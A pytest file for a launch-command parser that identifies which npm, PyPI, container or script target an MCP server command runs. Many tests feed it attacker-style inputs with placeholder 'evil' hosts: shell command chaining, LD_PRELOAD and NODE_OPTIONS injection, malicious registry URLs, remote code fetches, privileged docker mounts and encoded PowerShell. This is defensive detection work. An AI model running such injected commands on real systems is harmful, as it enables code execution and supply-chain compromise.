"""Command lines as people and attackers write them, and what each one launches."""

from __future__ import annotations

import pytest
from callgate.discovery.launch import containers, urls
from callgate.discovery.launch.environment import is_risky
from callgate.discovery.launch.packages import npm_package, pypi_package
from callgate.discovery.launch.read import LAYERS_MAX, read_launch
from callgate.discovery.launch.target import Executable, Launched, Module, Package, Script, Unknown, Url

OURS = "/home/u/.local/share/callgate/launchers"
SHIM = "/home/u/.local/share/callgate/shim"
DIGEST = "sha256:" + "a" * 64


def said(launched: Launched) -> str:
    """The target in one word, for the tables below."""
    target = launched.target
    if isinstance(target, Package):
        word = f"{target.kind}:{target.name}" + (f"@{target.version}" if target.version else "")
        return word + (f" by {target.command}" if target.command else "")
    if isinstance(target, Script):
        return f"{target.interpreter} {target.base and target.base + ' '}{target.file}"
    if isinstance(target, Module):
        return f"-m {target.name}" + (" alone" if target.isolated else "")
    if isinstance(target, Url):
        return f"url:{target.url}"
    return f"file {target.command}" if isinstance(target, Executable) else "unknown"


def read(line: str | list[str]) -> Launched:
    return read_launch(tuple(line.split() if isinstance(line, str) else line), (OURS, SHIM))


@pytest.mark.parametrize(
    ("line", "target"),
    [
        # npm
        ("npx good", "npm:good"),
        ("npx -y good", "npm:good"),
        ("npx --yes good@latest", "npm:good"),
        ("npx -y good@1.2.3 --stdio", "npm:good@1.2.3"),
        ("npx -y good@v1.2.3", "npm:good@1.2.3"),
        ("npx -y good@1.2.3-beta.1", "npm:good@1.2.3-beta.1"),
        ("npx good@^1.2", "npm:good"),
        ("npx -y @scope/pkg", "npm:@scope/pkg"),
        ("npx -y @scope/pkg@2.0.0 /home/u/docs", "npm:@scope/pkg@2.0.0"),
        ("npx -y -p @scope/pkg pkg", "npm:@scope/pkg"),
        ("npx -y --package=@scope/pkg@1.0.0 other-bin x", "npm:@scope/pkg@1.0.0 by other-bin"),
        ("npx -y -- good --registry=http://evil", "npm:good"),
        ("npx -y good --registry=http://evil", "npm:good"),  # the server's own argument
        ("/usr/local/bin/npx -y good", "npm:good"),
        ("npm exec -- good -y", "npm:good"),
        ("npm exec -y good", "npm:good"),
        ("npm x -y -- good@1.0.0", "npm:good@1.0.0"),
        ("bunx good", "npm:good"),
        ("bun x good@1.0.0", "npm:good@1.0.0"),
        ("pnpm dlx good", "npm:good"),
        ("pnpx good", "npm:good"),
        ("yarn dlx -q good", "npm:good"),
        ("deno run -A npm:good@1.0.0", "npm:good@1.0.0"),
        ("deno run --allow-net=x.org npm:@scope/pkg", "npm:@scope/pkg"),
        # PyPI
        ("uvx good", "pypi:good"),
        ("uvx Good_Server", "pypi:good-server"),
        ("uvx good@1.2", "pypi:good@1.2"),
        ("uvx good==1.2.0 --repository .", "pypi:good@1.2.0"),
        ("uvx good@latest", "pypi:good"),
        ("uvx good[extra]", "pypi:good"),
        ("uvx --from good good", "pypi:good"),
        ("uvx --from good==2.0 good-cli", "pypi:good@2.0 by good-cli"),
        ("uvx --python 3.12 good", "pypi:good"),
        ("uvx --from good>=1.0 good", "pypi:good"),
        ("uv tool run good@1.0", "pypi:good@1.0"),
        ("python -m uv tool run good", "pypi:good"),
        ("pipx run good", "pypi:good"),
        ("pipx run --spec good==1.0 good", "pypi:good@1.0"),
        ("python3 -m pipx run good", "pypi:good"),
        # containers
        ("docker run -i --rm mcp/fetch", "oci:mcp/fetch"),
        ("docker run -i --rm mcp/fetch:1.2", "oci:mcp/fetch@1.2"),
        ("docker run --rm -i docker.io/library/redis:latest", "oci:redis"),
        ("docker run -it --init -e TOKEN -e A=b --name x ghcr.io/o/s stdio", "oci:ghcr.io/o/s"),
        (f"docker run -i --network=host ghcr.io/o/s@{DIGEST}", f"oci:ghcr.io/o/s@{DIGEST}"),
        (f"docker container run localhost:5000/a/b:1@{DIGEST}", f"oci:localhost:5000/a/b@{DIGEST}"),
        ("docker run -i mcp/postgres postgresql://u@h/db", "oci:mcp/postgres"),
        ("podman run -i quay.io/a/b:2", "oci:quay.io/a/b@2"),
        # interpreters
        ("node /srv/x/index.js --port 1", "node /srv/x/index.js"),
        ("node --no-warnings --max-old-space-size=4096 dist/x.js", "node dist/x.js"),
        ("/home/u/.nvm/versions/node/v22/bin/node x.mjs", "node x.mjs"),
        ("python server.py", "python server.py"),
        ("python3.12 -u -W ignore server.py", "python server.py"),
        ("/srv/.venv/bin/python -um good_server", "-m good_server"),
        ("python3 -I -m good.server a b", "-m good.server alone"),
        ("py -3.12 -m good", "-m good"),
        ("bun run src/index.ts", "bun src/index.ts"),
        ("bun index.ts", "bun index.ts"),
        ("tsx src/index.ts", "tsx src/index.ts"),
        ("deno run -A main.ts", "deno main.ts"),
        ("uv run server.py", "uv server.py"),
        ("uv --directory /srv/x run server.py", "uv /srv/x server.py"),
        ("uv run --directory /srv/x python server.py", "uv /srv/x server.py"),
        ("fastmcp run server.py:mcp", "fastmcp server.py"),
        # bridges
        ("npx -y mcp-remote https://x.org/mcp", "url:https://x.org/mcp"),
        ("npx -y mcp-remote@0.1.30 https://X.org:443/a?key=s --header A:b", "url:https://x.org/a"),
        ("npx mcp-remote https://x.org/sse 3334 --allow-http", "url:https://x.org/sse"),
        ("npx -y supergateway --sse https://x.org/sse", "url:https://x.org/sse"),
        ("npx -y supergateway --streamableHttp https://x.org/mcp", "url:https://x.org/mcp"),
        ("uvx mcp-proxy --transport streamablehttp https://x.org/mcp", "url:https://x.org/mcp"),
        ("uvx fastmcp run https://x.org/mcp", "url:https://x.org/mcp"),
        # layers
        ("env A=b npx good", "npm:good"),
        ("env -i PATH_TO_X=1 npx good", "npm:good"),
        ("/usr/bin/env node x.js", "node x.js"),
        ("cmd /c npx -y good", "npm:good"),
        ("cmd.exe /d /s /c npx -y good", "npm:good"),
        (["C:\\Windows\\System32\\CMD.EXE", "/C", "npx", "-y", "good@1.0.0"], "npm:good@1.0.0"),
        (["cmd", "/c", "npx -y good"], "npm:good"),
        (["C:\\Program Files\\nodejs\\npx.cmd", "-y", "good"], "npm:good"),
        (["powershell", "-NoProfile", "-Command", "npx -y good"], "npm:good"),
        ("pwsh -NoLogo -Command npx -y good", "npm:good"),
        (["sh", "-c", "npx -y good"], "npm:good"),
        (["bash", "-lc", "exec uvx good@1.0"], "pypi:good@1.0"),
        (["zsh", "-ic", "npx 'good'"], "npm:good"),
        (["sh", "-c", "TOKEN='a b' npx -y good"], "npm:good"),
        ("nohup nice -n 5 timeout -k 5 60 stdbuf -oL npx good", "unknown"),  # -oL holds its value: not read
        ("nohup nice -n 5 timeout 60 npx good", "npm:good"),
        ("setsid -w time npx good", "npm:good"),
        ("sudo -n -u svc npx good", "npm:good"),
        # ours
        ([f"{OURS}/cursor/x-1", "--", "npx", "good"], "npm:good"),
        ([f"{OURS}/cursor/x-1", "--", f"{OURS}/claude/x-1", "--", "npx", "good"], "npm:good"),
        # a program of its own
        ("/opt/x/server --stdio", "file /opt/x/server"),
        ("mcp-server-git --repository .", "file mcp-server-git"),
    ],
)
def test_what_is_understood_is_named(line: str | list[str], target: str) -> None:
    found = read(line)
    if target == "unknown":
        assert found.caveats
        return
    assert (said(found), found.caveats) == (target, ())


@pytest.mark.parametrize(
    "line",
    [
        # a shell that does more than one plain thing
        ["sh", "-c", "npx good; evil"],
        ["sh", "-c", "npx good && evil"],
        ["sh", "-c", "npx good | evil"],
        ["sh", "-c", "npx good & evil"],
        ["sh", "-c", "npx good\nevil"],
        ["sh", "-c", "npx $(evil)"],
        ["sh", "-c", "npx `evil`"],
        ["sh", "-c", "npx $PKG"],
        ["sh", "-c", 'npx "good$(evil)"'],
        ["sh", "-c", "npx good > /home/u/.bashrc"],
        ["sh", "-c", "npx go?d"],
        ["sh", "-c", "npx {good,evil}"],
        ["sh", "-c", "~/npx good"],
        ["sh", "-c", "npx good # x"],
        ["sh", "-c", "npx g\\ood"],
        ["sh", "-c", "eval npx good"],
        ["sh", "-c", ". npx good"],
        ["sh", "-c", "cd /evil"],
        ["sh", "-c", "exec -a npx evil good"],
        ["sh", "-c", "PATH=/evil npx good"],
        ["sh", "-c", "'A=b' npx good"],
        ["sh", "-c", "npx 'good"],
        ["sh", "-c", ""],
        ["sh", "-c"],
        ["sh", "script.sh"],
        ["sh", "-s", "npx", "good"],
        ["bash", "--rcfile", "evil", "-ic", "npx good"],
        ["bash", "-c", "-c", "npx good"],
        ["cmd", "/c", "npx", "good", "&", "evil"],
        ["cmd", "/c", "npx good & evil"],
        ["cmd", "/c", "npx", "%PKG%"],
        ["cmd", "/c", "npx", "go^od"],
        ["cmd", "/k", "npx", "good"],
        ["cmd", "/c"],
        ["powershell", "-Command", "npx good; evil"],
        ["powershell", "-Command", "npx $pkg"],
        ["powershell", "-EncodedCommand", "ZQB2AGkAbAA="],
        ["powershell", "-File", "evil.ps1", "-Command", "npx good"],
        ["fish", "-c", "npx good"],
        ["busybox", "sh", "-c", "npx good"],
        ["wsl.exe", "npx", "good"],
        # environment
        ["env", "NODE_OPTIONS=--require=/evil.js", "npx", "good"],
        ["env", "npm_config_registry=http://evil", "npx", "good"],
        ["env", "LD_PRELOAD=/evil.so", "npx", "good"],
        ["env", "PYTHONPATH=/evil", "uvx", "good"],
        ["env", "UV_INDEX_URL=http://evil", "uvx", "good"],
        ["env", "PATH=/evil", "npx", "good"],
        ["env", "-S", "npx evil", "good"],
        ["env", "-C", "/evil", "npx", "good"],
        ["env", "--unknown", "npx", "good"],
        ["nohup", "-x", "npx", "good"],
        ["sudo", "LD_PRELOAD=/evil.so", "npx", "good"],
        ["sudo", "-R", "/evil", "npx", "good"],
        ["sudo", "-i", "npx", "good"],
        # npm
        ["npx", "--registry", "http://evil", "good"],
        ["npx", "--registry=http://evil", "good"],
        ["npx", "--reg=http://evil", "good"],
        ["npx", "--userconfig", "evil", "good"],
        ["npx", "--prefix", "evil", "good"],
        ["npx", "-c", "evil", "good"],
        ["npx", "-p", "good", "-c", "evil"],
        ["npx", "-p", "good", "-p", "evil", "good"],
        ["npx", "-p", "good", "./evil"],
        ["npx", "-p", "-y", "good"],
        ["npx", "--node-options=--require=evil", "good"],
        ["npx", "--no-audit", "good", "--registry=http://evil", "x"],
        ["npx", "--unknown", "good"],
        ["npx", "./good"],
        ["npx", "github:evil/good"],
        ["npx", "evil/good"],
        ["npx", "good@npm:evil"],
        ["npx", "good@file:./evil"],
        ["npx", "good@github:evil/good"],
        ["npx", "https://evil/good.tgz"],
        ["npx", "good.tgz"],
        ["npx", "good@"],
        ["npx", ""],
        ["npx", "-"],
        ["npx", "--", "-c"],
        ["npx", "deno", "run", "evil"],
        ["npx"],
        ["npm", "exec", "good", "--registry=http://evil"],
        ["npm", "--registry", "http://evil", "exec", "good"],
        ["npm", "start"],
        ["npm", "run", "good"],
        ["pnpm", "exec", "good"],
        ["pnpm", "dlx", "--registry", "http://evil", "good"],
        ["yarn", "good"],
        ["bun", "run", "good"],
        ["bunx", "--cwd", "/evil", "good"],
        ["npx", "-y", "tsx", "evil.ts"],
        ["npx", "-y", "@smithery/cli", "run", "evil"],
        ["npx", "cross-env", "A=b", "evil"],
        # PyPI
        ["uvx", "--index-url", "http://evil", "good"],
        ["uvx", "--index=http://evil", "good"],
        ["uvx", "--with", "evil", "good"],
        ["uvx", "--from", "git+https://evil/good", "good"],
        ["uvx", "--from", "good@git+https://evil", "good"],
        ["uvx", "--from", ".", "good"],
        ["uvx", "--from", "good", "/evil"],
        ["uvx", "--from", "good", "python", "-c", "evil"],
        ["uvx", "python@3.12", "-c", "evil"],
        ["uvx", "--python", "/evil/python", "good"],
        ["uvx", "--directory", "/evil", "good"],
        ["uvx", "./good"],
        ["uvx", "good.py"],
        ["uvx", "good @ https://evil/good.whl"],
        ["pipx", "run", "--pip-args=--index-url=http://evil", "good"],
        ["pipx", "run", "good.py"],
        ["pipx", "run", "https://evil/x.py"],
        ["pipx", "install", "good"],
        ["uv", "pip", "install", "good"],
        ["uv", "run", "good"],
        ["uv", "run", "--with", "evil", "server.py"],
        ["uv", "run", "--with", "good", "good"],
        ["uv", "run", "-m", "good"],
        ["uv", "--project", "/evil", "run", "server.py"],
        ["uvx", "mcp-proxy", "evil", "arg"],
        ["python", "-m", "pip", "install", "good"],
        ["python", "-m", "pipx", "run", "--index-url", "http://evil", "good"],
        # containers
        ["docker", "run", "-v", "/evil:/app", "mcp/good"],
        ["docker", "run", "--volume=/evil:/app", "mcp/good"],
        ["docker", "run", "--mount", "type=bind,src=/evil,dst=/app", "mcp/good"],
        ["docker", "run", "--entrypoint", "sh", "mcp/good"],
        ["docker", "run", "--entrypoint=sh", "mcp/good"],
        ["docker", "run", "-e", "NODE_OPTIONS=--import=data:text/javascript,evil", "mcp/good"],
        ["docker", "run", "-eNODE_OPTIONS=x", "mcp/good"],
        ["docker", "run", "--env-file", "evil", "mcp/good"],
        ["docker", "run", "--privileged", "mcp/good"],
        ["docker", "run", "--unknown", "evil", "mcp/good"],
        ["docker", "run", "mcp/good", "sh", "-c", "evil"],
        ["docker", "run", "mcp/good", "/bin/sh"],
        ["docker", "--host", "tcp://evil", "run", "mcp/good"],
        ["docker", "-H", "tcp://evil", "run", "mcp/good"],
        ["docker", "exec", "good", "sh"],
        ["docker", "compose", "run", "good"],
        ["docker", "run", "MCP/GOOD"],
        ["docker", "run", "mcp/good@sha256:12"],
        ["docker", "run", "mcp/good:bad tag"],
        ["docker", "run"],
        ["podman", "run", "mcp/good"],
        # interpreters
        ["node", "-r", "./evil.js", "good.js"],
        ["node", "--require=./evil.js", "good.js"],
        ["node", "--import", "data:text/javascript,evil", "good.js"],
        ["node", "-e", "evil", "good.js"],
        ["node", "--eval=evil"],
        ["node", "--loader", "./evil.mjs", "good.js"],
        ["node", "--env-file=.env", "good.js"],
        ["node", "--inspect", "good.js"],
        ["node", "--unknown", "good.js"],
        ["node", "-"],
        ["node"],
        ["python", "-c", "evil", "good.py"],
        ["python", "-cevil"],
        ["python", "-X", "pycache_prefix=/evil", "good.py"],
        ["python", "-W", "error::evil.Evil", "good.py"],
        ["python", "-mgood"],
        ["python", "-m"],
        ["python", "-m", "../evil"],
        ["python", "-m", "runpy", "evil"],
        ["python", "-m", "pdb", "evil.py"],
        ["python", "-"],
        ["deno", "run", "--import-map", "evil.json", "npm:good"],
        ["deno", "run", "https://evil/x.ts"],
        ["deno", "eval", "evil"],
        ["bun", "--preload", "./evil.ts", "run", "good.ts"],
        ["bun", "run", "--preload", "./evil.ts", "good.ts"],
        ["tsx", "--require", "./evil.js", "good.ts"],
        ["java", "-jar", "x.jar"],
        ["op", "run", "--", "npx", "good"],
        ["find", ".", "-exec", "npx", "good", ";"],
        ["xargs", "npx", "good"],
        # bridges
        ["npx", "mcp-remote", "https://good\\@evil/"],
        ["npx", "mcp-remote", "https://good/../evil"],
        ["npx", "mcp-remote", "https://good/%2e%2e/evil"],
        ["npx", "mcp-remote", "https://good", "https://evil"],
        ["npx", "mcp-remote", "file:///etc/passwd"],
        ["npx", "mcp-remote", "--unknown", "https://good"],
        ["npx", "mcp-remote"],
        ["npx", "-p", "mcp-remote", "evil", "https://good"],
        ["npx", "supergateway", "--stdio", "evil"],
        ["npx", "supergateway", "--sse", "https://good", "--stdio", "evil"],
        # nothing at all
        [],
        [""],
        ["npx", "go\0od"],
        [*["nohup"] * (LAYERS_MAX + 1), "npx", "good"],
        ["env"],
        ["env", "A=b"],
        ["timeout", "60"],
    ],
    ids=lambda line: " ".join(line).replace("\0", "NUL").replace("\n", "NL")[:60] or "nothing",
)
def test_what_is_in_doubt_is_never_plainly_the_package(line: list[str]) -> None:
    assert read(line).caveats


@pytest.mark.parametrize("line", [["sh", "-c", "npx good; evil"], ["npx", "evil/good"], ["uv", "run", "good"], []])
def test_what_is_unknown_says_why(line: list[str]) -> None:
    found = read(line)
    assert isinstance(found.target, Unknown)
    assert all(found.caveats) and found.caveats


def test_a_folder_that_looks_like_ours_is_not_ours() -> None:
    assert said(read([OURS + "-evil/x", "--", "npx", "good"])) == f"file {OURS}-evil/x"
    assert said(read([f"{OURS}/../../x", "--", "npx", "good"])) == f"file {OURS}/../../x"
    assert said(read([f"{OURS}/x", "evil", "--", "npx", "good"])) == f"file {OURS}/x"
    shim = ["-I", "-S", "-E", f"{SHIM}/run.py", "--launcher", "a", "--entry", "n", "--", "npx", "good"]
    assert "good" not in said(read(["./python3", *shim]))
    assert "good" not in said(read(["python3", "-cimport evil", *shim]))
    assert said(read(["python3", "/evil/run.py", "--entry", "x", "--", "npx", "good"])) == "python /evil/run.py"


def test_every_program_on_the_way_is_named() -> None:
    assert read(["env", "A=b", "/opt/sh", "-c", "npx good"]).tools == ("env", "/opt/sh", "npx")
    assert read("python3 -m uv tool run good").tools == ("python3", "uv")


def test_the_folder_matters_where_a_relative_name_is_used() -> None:
    assert not read("docker run -v /data:/data mcp/good").place_matters
    assert read("docker run -v ./data:/data mcp/good").place_matters
    assert not read("uvx --with mcp good").place_matters
    assert read("npx --userconfig evil good").place_matters
    assert read("node -r ./x.js /srv/x.js").place_matters


def test_upper_case_is_another_program_except_on_windows() -> None:
    assert said(read("NPX good")) == "file NPX"
    assert said(read("NPX.CMD good")) == "npm:good"


@pytest.mark.parametrize(
    ("spec", "name"),
    [("good", "good"), ("good@1.0.0", "good@1.0.0"), ("@a/b", "@a/b"), ("good@next", "good"), ("good@>=1 <2", "good")],
)
def test_npm_specs_are_read(spec: str, name: str) -> None:
    found = npm_package(spec)
    assert found is not None and found.name + (f"@{found.version}" if found.version else "") == name


@pytest.mark.parametrize(
    "spec", ["", "@", "@a", "a/b", "a@b:c", "../a", "a b", "a@http://x", "@a/b/c", "ö", "a@1.0.0/../x"]
)
def test_what_is_no_npm_spec_is_refused(spec: str) -> None:
    assert npm_package(spec) is None


@pytest.mark.parametrize(
    "spec", ["", ".", "a/b", "git+https://x", "a @ file:///x", "-e", "a;b", "a==1;python_version<'3'", "a.whl"]
)
def test_what_is_no_pypi_spec_is_refused(spec: str) -> None:
    assert pypi_package(spec) is None


@pytest.mark.parametrize(
    ("address", "normal"),
    [
        ("https://X.Org", "https://x.org/"),
        ("HTTPS://x.org:443/A/b?c=d#e", "https://x.org/A/b"),
        ("http://x.org:8080/", "http://x.org:8080/"),
        ("http://user:secret@x.org/a", "http://x.org/a"),
        ("http://[::1]:3000/mcp", "http://[::1]:3000/mcp"),
        ("http://127.0.0.1:3000/mcp", "http://127.0.0.1:3000/mcp"),
        ("ftp://x.org/", None),
        ("https://", None),
        ("https://x.org\\@evil", None),
        ("https://x.org:99999/", None),
        ("https://x.org:a/", None),
        ("https://xn--a b/", None),
        ("https://ü.org/", None),
        ("https://x.org./", None),
        ("https://x.org/a/../b", None),
        ("https://x.org/\n", None),
        ("https://x%2eorg/", None),
        ("https://${HOST}/", None),
        ("//x.org", None),
        ("", None),
    ],
)
def test_an_address_has_one_form_or_none(address: str, normal: str | None) -> None:
    assert urls.normal(address) == normal


@pytest.mark.parametrize(
    "name", ["NODE_OPTIONS", "node_options", "LD_PRELOAD", "npm_config_registry", "PATH", "DYLD_INSERT_LIBRARIES"]
)
def test_variables_that_change_code_are_risky(name: str) -> None:
    assert is_risky(name)


@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "API_KEY", "NODE_ENV", "PYTHONUNBUFFERED", "DEBUG"])
def test_ordinary_variables_are_not(name: str) -> None:
    assert not is_risky(name)


def test_an_image_is_named_in_its_short_form() -> None:
    names = ["a", "library/a", "docker.io/a", "docker.io/library/a", "index.docker.io/library/a:latest"]
    assert {containers.image(name) and containers.image(name).name for name in names} == {"a"}  # type: ignore[union-attr]
